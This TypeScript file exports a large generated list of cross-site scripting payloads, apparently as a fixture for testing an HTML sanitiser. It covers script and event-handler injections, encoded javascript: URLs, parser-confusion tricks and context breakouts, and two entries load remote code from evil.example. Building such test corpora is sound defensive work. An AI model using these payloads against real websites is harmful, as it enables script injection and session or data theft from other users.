/** Ways to have a script run, each in its own way. */
const WAYS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>x</html>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)">x</p>',
  '<em onmouseover=alert(1)>x</em>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
  '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a href=https://ok.example/"onmouseover="alert(1)>x</a>',
  '<a name="cookie" id="location">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!doctype x [<!entity y "<script>alert(1)</script>">]>&y;',
  '</p><script>alert(1)</script><p>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<<script>alert(1)//<</script>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<code><script>alert(1)</script></code>',
  '<x-y onclick=alert(1)>x</x-y>',
  '<p><table><td><img src=x onerror=alert(1)></td></table></p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<p>x</p>',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '<ｓcript>alert(1)</ｓcript>',
  '<img src=x onerror=alert(1)//',
  '<script>alert(1)',
  '<a href="javascript:alert(1)',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  "<strong title='\"><script>alert(1)</script>'>x</strong>",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
];

/** Handlers of events, of which many run without a click. */
const EVENTS =
  'abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput ' +
  'beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay change click close ' +
  'contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover ' +
  'dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange ' +
  'gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart ' +
  'lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel ' +
  'offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave ' +
  'pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize ' +
  'scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart show ' +
  'slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart ' +
  'transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting wheel';

/** A handler on a tag that a comment may hold, or on one that it may not, in the spellings of HTML. */
const SPELLINGS = [
  (event: string) => `<p on${event}=alert(1)>x</p>`,
  (event: string) => `<a href="/" On${event}='alert(1)'>x</a>`,
  (event: string) => `<svg/on${event}=alert(1)>`,
  (event: string) => `<em\tON${event.toUpperCase()}="alert(1)">x</em>`,
];
const HANDLERS = EVENTS.split(' ').map((event, at) => (SPELLINGS[at % SPELLINGS.length] ?? String)(event));

/** Addresses that run, wherever an address may stand. */
const ADDRESSES = [
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript&NewLine;:alert(1)',
  'java&Tab;script:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'blob:javascript:alert(1)',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:text/javascript,alert(1)',
  'livescript:alert(1)',
];
const PLACES = [
  (address: string) => `<a href='${address}'>x</a>`,
  (address: string) => `<img src='${address}'>`,
  (address: string) => `<form action='${address}'><button>x</button></form>`,
  (address: string) => `<p>See <area href='${address}'></p>`,
];
const LINKS = ADDRESSES.flatMap((address) => PLACES.map((place) => place(address)));

/** What ends the place a text stands in: an attribute, a comment, an element whose content is no HTML, a string. */
const ENDS = [
  '"',
  "'",
  '">',
  "'>",
  '`',
  ' ',
  '/>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '\\"',
];
const RUNS = [
  'onfocus=alert(1) autofocus ',
  '<svg onload=alert(1)>',
  '<script>alert(1)//',
  '<img src onerror=alert(1) ',
];
const BREAKS = ENDS.flatMap((end) => RUNS.map((run) => end + run));

/** More than 300 texts that would run something where they are neither escaped nor sanitised; all different. */
export const HOSTILE_TEXTS: readonly string[] = [...new Set([...WAYS, ...HANDLERS, ...LINKS, ...BREAKS])];
